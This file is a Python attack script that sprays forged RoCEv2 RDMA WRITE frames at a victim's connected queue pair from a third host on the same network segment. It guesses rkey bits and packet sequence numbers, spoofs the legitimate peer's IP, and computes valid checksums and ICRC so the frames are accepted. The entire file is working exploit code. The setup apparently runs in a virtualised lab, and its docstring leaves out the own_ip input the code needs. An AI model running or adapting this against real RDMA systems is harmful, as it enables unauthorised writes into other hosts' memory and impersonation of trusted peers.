#!/usr/bin/python3
"""A third host on the victim's L2 segment sprays RoCEv2 RDMA WRITEs at a connected QP.

  spray_attack.py IFACE JSON

JSON: victim_ip, victim_mac, peer_ip, qpn, rkey, addr, count. The attacker knows the victim's QPN
and the index part of its rkey (the low 8 bits, the key variant, and the PSN are guessed). Half
the frames come from the attacker's own address, half spoof the genuine peer's IP. Frames are
well formed (IPv4 checksum, ICRC), so the victim judges them on their merits. Prints how many it
sent from each source.

The frames skip the interface's qdisc (PACKET_QDISC_BYPASS): the guest kernel's default fq_codel
drops frames that wait too long under a slow (TCG) virtio-net, and the sender is not told. Past
the qdisc a full transmit ring makes send() fail with ENOBUFS, and the frame is sent again, so
every frame counted as sent left the guest."""

import errno
import json
import random
import socket
import struct
import sys
import time
import zlib

ROCE_PORT = 4791
RC_RDMA_WRITE_ONLY = 0x0A
PAYLOAD = b"\xee" * 64
SOL_PACKET = 263
PACKET_QDISC_BYPASS = 20


def ip_checksum(h):
    s = sum(struct.unpack("!10H", h))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def icrc(ip, udp, rest):
    """RoCEv2 ICRC: CRC-32 over 8 bytes of 1s and the headers with the variant fields masked."""
    ip, udp, rest = bytearray(ip), bytearray(udp), bytearray(rest)
    ip[1] = 0xFF             # TOS
    ip[8] = 0xFF             # TTL
    ip[10:12] = b"\xff\xff"  # header checksum
    udp[6:8] = b"\xff\xff"   # UDP checksum
    rest[4] = 0xFF           # BTH reserved byte
    return struct.pack("<I", zlib.crc32(b"\xff" * 8 + ip + udp + rest) & 0xFFFFFFFF)


def frame(src_mac, dst_mac, src_ip, dst_ip, qpn, psn, va, rkey):
    bth = struct.pack("!BBHI I", RC_RDMA_WRITE_ONLY, 0, 0xFFFF, qpn & 0xFFFFFF,
                      (1 << 31) | (psn & 0xFFFFFF))
    reth = struct.pack("!QII", va, rkey, len(PAYLOAD))
    rest = bth + reth + PAYLOAD
    udp_len = 8 + len(rest) + 4
    sport = 0xC000 | random.getrandbits(14)
    udp = struct.pack("!HHHH", sport, ROCE_PORT, udp_len, 0)
    total = 20 + udp_len
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, random.getrandbits(16), 0x4000, 64, 17, 0,
                     socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
    ip = ip[:10] + struct.pack("!H", ip_checksum(ip)) + ip[12:]
    eth = dst_mac + src_mac + b"\x08\x00"
    return eth + ip + udp + rest + icrc(ip, udp, rest)


def mac_bytes(s):
    return bytes(int(x, 16) for x in s.split(":"))


def main(iface, spec):
    p = json.loads(spec)
    with open("/sys/class/net/%s/address" % iface) as f:
        own_mac = mac_bytes(f.read().strip())
    own_ip = p["own_ip"]
    dst_mac = mac_bytes(p["victim_mac"])
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    retries = 0
    sent = {"own": 0, "spoofed": 0}
    for i in range(p["count"]):
        spoof = i % 2 == 1
        rkey = (p["rkey"] & ~0xFF) | random.getrandbits(8)
        psn = random.getrandbits(24)
        f = frame(own_mac, dst_mac, p["peer_ip"] if spoof else own_ip, p["victim_ip"],
                  p["qpn"], psn, p["addr"] + random.randrange(0, 65536 - 64), rkey)
        while True:
            try:
                s.send(f)
                break
            except OSError as e:
                if e.errno not in (errno.ENOBUFS, errno.EAGAIN) or retries > 100000:
                    raise
                retries += 1
                time.sleep(0.001)
        sent["spoofed" if spoof else "own"] += 1
    print("sent own=%d spoofed=%d (%d sends retried on a full ring)"
          % (sent["own"], sent["spoofed"], retries), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
